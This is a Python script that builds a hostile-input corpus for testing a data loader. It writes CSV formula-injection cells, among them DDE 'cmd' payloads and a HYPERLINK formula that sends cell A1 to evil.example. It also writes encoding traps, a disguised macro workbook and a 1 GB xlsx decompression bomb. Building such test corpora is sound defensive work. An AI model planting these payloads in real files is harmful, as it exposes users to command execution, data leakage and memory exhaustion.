"""Write the hostile-input corpus that tests/functional/test_hostile_input.py feeds the loader.

Small files are committed under tests/assets/hostile/ (``--small`` rewrites them); the large
ones (a 10 MB field, a 100,000-column header, an xlsx decompression bomb, invalid UTF-8 past
the encoding sample) are generated into tests/assets/hostile/generated/, which git ignores.
The tests call ``generate_large()`` themselves, so a fresh clone needs no manual step.

Usage: python scripts/make_hostile_corpus.py [--small] [--large] [--folder DIR]
"""
from __future__ import annotations

import argparse
import hashlib
import io
import sys
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ROOT / 'tests' / 'assets' / 'hostile'
GENERATED = HOSTILE / 'generated'

RESPONSES_HEADER = ('response_id,flow_code,responded_at,status,result_code,duration_ms,'
                    'error_reason,payload_bytes')
FLOWS_HEADER = ('flow_code,name,flow_type,source_system,target_system,owner_team,owner_email,'
                'schedule,active,description')
#: The flow every responses file of the corpus names (loaded by the tests first).
FLOW_CODE = 'ORD-SAP'


def response_line(number: int, reason: str = '') -> str:
    return (f'{number},{FLOW_CODE},2026-03-01 14:{number % 60:02d}:09,ERROR,500,{number % 900},'
            f'{reason},{number * 10}')


def good_responses(first: int, count: int) -> list[str]:
    return [response_line(n, 'SAP gateway timed out') for n in range(first, first + count)]


def crlf(lines: list[str]) -> bytes:
    return ('\r\n'.join(lines) + '\r\n').encode('utf-8')


# -- small files (committed) -----------------------------------------------------------------
def small_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    # Formula-looking cells in free-text columns: loaded as plain text, neutralised on export.
    files['csv_injection_text.csv'] = crlf([
        FLOWS_HEADER,
        'INJ-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",API,Shop,SAP,'
        '@SUM(1+1),ops@corp.example,"-2+3",yes,"+cmd|\' /C calc\'!A0"',
        'INJ-2,=1+1,FILE,"=cmd|\' /C notepad\'!A0",SAP,-team,,@every 5 min,no,'
        '"\tleading tab =1+2"',
    ])
    files['csv_injection_responses.csv'] = crlf([
        RESPONSES_HEADER,
        '1,ORD-SAP,2026-03-01 14:05:09,ERROR,500,10,"=cmd|\' /C calc\'!A0",40',
        '2,ORD-SAP,2026-03-01 14:06:09,ERROR,500,10,"=HYPERLINK(""http://evil.example"",""x"")",40',
        '3,ORD-SAP,2026-03-01 14:07:09,WARN,,10,@SUM(A1:A9),',
        '4,ORD-SAP,2026-03-01 14:08:09,OK,-5,10,+1-1,',
    ])
    # A formula in the key column: refused with the line and column.
    files['csv_injection_key.csv'] = crlf([
        FLOWS_HEADER,
        'GOOD-1,Good flow,API,Shop,SAP,,,,yes,',
        '"=HYPERLINK(""http://evil.example"")",Evil,API,Shop,SAP,,,,yes,',
    ])
    # NUL bytes: inside a cell after the first 8 KB (past the binary-content sniff) ...
    lines = [RESPONSES_HEADER] + good_responses(1, 200)
    lines.append(response_line(201, 'before\x00after'))
    files['nul_in_cell.csv'] = crlf(lines)
    # ... and at the very start.
    files['nul_at_start.csv'] = b'\x00\x00\x00' + crlf([RESPONSES_HEADER] + good_responses(1, 3))
    # Bytes that are neither UTF-8 nor Windows-1252 (0x81, 0x8D are unassigned there).
    files['invalid_utf8.csv'] = crlf([RESPONSES_HEADER] + good_responses(1, 3)) + \
        response_line(4, 'bad \x01').encode('utf-8').replace(b'\x01', b'\xc3\x28\x81\x8d') + b'\r\n'
    # UTF-16, with and without a byte-order mark.
    text = '\r\n'.join([RESPONSES_HEADER] + good_responses(1, 3)) + '\r\n'
    files['utf16_bom.csv'] = text.encode('utf-16')
    files['utf16_no_bom.csv'] = text.encode('utf-16-le')
    # A quote opened and never closed, in the middle of the file.
    files['unbalanced_quote.csv'] = crlf(
        [RESPONSES_HEADER] + good_responses(1, 3)
        + ['4,ORD-SAP,2026-03-01 14:05:09,ERROR,500,10,"never closed,40']
        + good_responses(5, 3))
    files['zero_byte.csv'] = b''
    # A PDF renamed .csv (the name and the browser's content type both lie).
    files['pdf_named.csv'] = (b'%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n'
                              b'%%EOF\n')
    files['xlsm_renamed.xlsx'] = macro_workbook()
    return files


def plain_workbook_parts(sheet_xml: str, shared_strings: bool = False) -> dict[str, bytes]:
    """The parts of a minimal, valid xlsx workbook with one sheet."""
    overrides = [
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>',
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
    ]
    relationships = [
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>',
    ]
    if shared_strings:
        overrides.append('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
        relationships.append('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
                             'officeDocument/2006/relationships/sharedStrings" '
                             'Target="sharedStrings.xml"/>')
    return {
        '[Content_Types].xml': (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            + ''.join(overrides) + '</Types>').encode('utf-8'),
        '_rels/.rels': (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        'xl/workbook.xml': (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        'xl/_rels/workbook.xml.rels': (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + ''.join(relationships) + '</Relationships>').encode('utf-8'),
        'xl/worksheets/sheet1.xml': sheet_xml.encode('utf-8'),
    }


def sheet_of_inline_rows(rows: list[list[str]]) -> str:
    cells = []
    for number, row in enumerate(rows, start=1):
        columns = ''.join(
            f'<c r="{chr(65 + index)}{number}" t="inlineStr"><is><t>{value}</t></is></c>'
            for index, value in enumerate(row))
        cells.append(f'<row r="{number}">{columns}</row>')
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheetData>{"".join(cells)}</sheetData></worksheet>')


def macro_workbook() -> bytes:
    """A macro-enabled workbook (.xlsm: a VBA project, the macro-enabled content type) saved
    under an .xlsx name."""
    rows = [RESPONSES_HEADER.split(',')] + [line.split(',') for line in good_responses(1, 3)]
    parts = plain_workbook_parts(sheet_of_inline_rows(rows))
    parts['[Content_Types].xml'] = parts['[Content_Types].xml'].replace(
        b'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        b'application/vnd.ms-excel.sheet.macroEnabled.main+xml').replace(
        b'</Types>', b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                     b'vbaProject"/></Types>')
    parts['xl/_rels/workbook.xml.rels'] = parts['xl/_rels/workbook.xml.rels'].replace(
        b'</Relationships>', b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/'
                             b'2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                             b'</Relationships>')
    # An OLE compound file header, as a real vbaProject.bin starts.
    parts['xl/vbaProject.bin'] = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\x00' * 504
    return zip_bytes(parts)


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            # A fixed timestamp keeps the committed files byte-identical between runs.
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


# -- large files (generated, git-ignored) ------------------------------------------------------
FIELD_BYTES = 10 * 1024 * 1024
HEADER_COLUMNS = 100_000
BOMB_UNCOMPRESSED = 1024 * 1024 * 1024  # 1 GB of shared strings from a ~1 MB file
PAST_SAMPLE_BYTES = (1 << 20) + 200_000
LONG_REASON = 'Zeitüberschreitung beim Empfänger, Antwort verworfen: ' * 30


def write_field_10mb(path: Path) -> None:
    """One quoted error_reason of 10 MB (no line break in it), between good rows."""
    with open(path, 'wb') as handle:
        handle.write(crlf([RESPONSES_HEADER] + good_responses(1, 3)))
        handle.write(b'4,ORD-SAP,2026-03-01 14:05:09,ERROR,500,10,"')
        block = b'A' * (1 << 20)
        for _ in range(FIELD_BYTES // len(block)):
            handle.write(block)
        handle.write(b'",40\r\n')
        handle.write(crlf(good_responses(5, 3)))


def write_header_100k(path: Path) -> None:
    """The real columns followed by 100,000 invented ones, and two rows that fill them all."""
    extra = HEADER_COLUMNS - len(RESPONSES_HEADER.split(','))
    with open(path, 'w', encoding='utf-8', newline='') as handle:
        handle.write(RESPONSES_HEADER + ',' + ','.join(f'extra_{n}' for n in range(extra)) + '\r\n')
        for line in good_responses(1, 2):
            handle.write(line + ',' + ','.join('x' for _ in range(extra)) + '\r\n')


def write_xlsx_bomb(path: Path) -> None:
    """A workbook whose shared-strings part inflates to 1 GB (about 1,000:1): a reader that
    loads the shared strings up front runs out of memory."""
    rows = [RESPONSES_HEADER.split(',')] + [line.split(',') for line in good_responses(1, 3)]
    parts = plain_workbook_parts(sheet_of_inline_rows(rows), shared_strings=True)
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data,
                             compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo('xl/sharedStrings.xml', date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        item = b'<si><t>' + b'B' * 1000 + b'</t></si>'
        head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://'
                b'schemas.openxmlformats.org/spreadsheetml/2006/main">')
        block = item * ((1 << 20) // len(item) + 1)
        with archive.open(info, 'w', force_zip64=True) as member:
            member.write(head)
            written = len(head)
            while written < BOMB_UNCOMPRESSED:
                member.write(block)
                written += len(block)
            member.write(b'</sst>')


def write_invalid_utf8_past_sample(path: Path) -> None:
    """Valid UTF-8 (with accents) for more than the 1 MB the encoding is chosen from, then a
    row with bytes that are not UTF-8."""
    with open(path, 'wb') as handle:
        handle.write((RESPONSES_HEADER + '\r\n').encode('utf-8'))
        number, written = 1, 0
        while written < PAST_SAMPLE_BYTES:
            line = (response_line(number, LONG_REASON) + '\r\n').encode('utf-8')
            handle.write(line)
            written += len(line)
            number += 1
        handle.write(response_line(number, 'bad \x01').encode('utf-8').replace(b'\x01', b'\xff\xfe')
                     + b'\r\n')
        handle.write(crlf(good_responses(number + 1, 3)))


LARGE_FILES = {
    'field_10mb.csv': write_field_10mb,
    'header_100k_columns.csv': write_header_100k,
    'xlsx_bomb.xlsx': write_xlsx_bomb,
    'invalid_utf8_past_sample.csv': write_invalid_utf8_past_sample,
}


def generate_large(folder: Path = GENERATED) -> dict[str, Path]:
    """Write the large files that are missing or were made by another version of this
    script (each is deterministic); return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    stamp = folder / '.generator-sha256'
    version = hashlib.sha256(Path(__file__).read_bytes()).hexdigest()
    stale = not stamp.exists() or stamp.read_text(encoding='utf-8').strip() != version
    paths = {}
    for name, write in LARGE_FILES.items():
        path = folder / name
        if stale or not path.exists():
            partial = path.with_name(path.name + '.part')
            write(partial)
            partial.replace(path)
        paths[name] = path
    stamp.write_text(version, encoding='utf-8')
    return paths


def write_small(folder: Path = HOSTILE) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, data in small_files().items():
        path = folder / name
        path.write_bytes(data)
        paths[name] = path
    return paths


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument('--small', action='store_true', help='rewrite the committed small files')
    parser.add_argument('--large', action='store_true', help='generate the large files')
    parser.add_argument('--folder', type=Path, help='where to write (default: tests/assets/hostile)')
    args = parser.parse_args(argv)
    if not args.small and not args.large:
        args.small = args.large = True
    if args.small:
        for path in write_small(args.folder or HOSTILE).values():
            print(f'{path.stat().st_size:>14,}  {path}')
    if args.large:
        for path in generate_large((args.folder / 'generated') if args.folder
                                         else GENERATED).values():
            print(f'{path.stat().st_size:>14,}  {path}')
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv[1:]))
